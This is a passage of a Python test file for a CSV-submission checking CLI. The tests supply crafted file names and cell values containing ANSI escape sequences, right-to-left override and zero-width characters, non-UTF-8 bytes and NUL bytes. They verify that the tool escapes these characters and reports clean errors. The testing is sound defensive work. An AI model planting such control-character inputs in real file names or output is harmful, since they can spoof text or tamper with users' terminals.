    path = hostile_rows(tmp_path / "t b.csv", product="IIB", version="10.0.0.2",
                        platform="x\u200bLinux", scenario="ISO 8583 Transformation")
    for form in ([], ["--json"]):
        out = tmp_path / f"findings{len(form)}.txt"
        done = run_cli("check", path, "--db", built_warehouse, "--out", out, *form)
        written = out.read_text(encoding="utf-8")
        assert done.returncode == 1 and written
        assert not re.search("[\x1b\u200b\u202e]", written + done.stdout + done.stderr)
        assert "t b.csv: 3 errors unreadable_value" in done.stdout  # the summary
    assert json.loads(written)[0]["file"] == str(path)
    acting = tmp_path / "t\tb\x1b[1m\u202e.csv"
    shutil.copyfile(path, acting)
    done = run_cli("check", acting, "--db", built_warehouse, "--out", tmp_path / "none.txt")
    assert done.returncode == 1 and not re.search("[\x1b\u202e\t]", done.stdout + done.stderr)
    assert "t\\tb\\u001b[1m\\u202e.csv: the file name holds the control character U+0009" in done.stderr
    undecodable = Path(os.fsdecode(bytes(tmp_path) + b"/bad\xff.csv"))
    shutil.copyfile(path, undecodable)
    done = run_cli("check", undecodable, "--db", built_warehouse)
    assert done.returncode == 1 and "Traceback" not in done.stderr and "unexpected" not in done.stderr
    assert "bad\\udcff.csv: the file name is not UTF-8 text" in done.stderr


def test_a_nul_byte_is_named_at_its_line(tmp_path):
    from ingest.records import ParseError
    from ingest.submission import sniff

    path = tmp_path / "nul.csv"
    path.write_bytes(b"product,platform\nIIB,x\nIIB,y\nIIB,\x00z\n")
    with pytest.raises(ParseError, match="NUL bytes") as raised:
        sniff(path)
    assert raised.value.line == 4
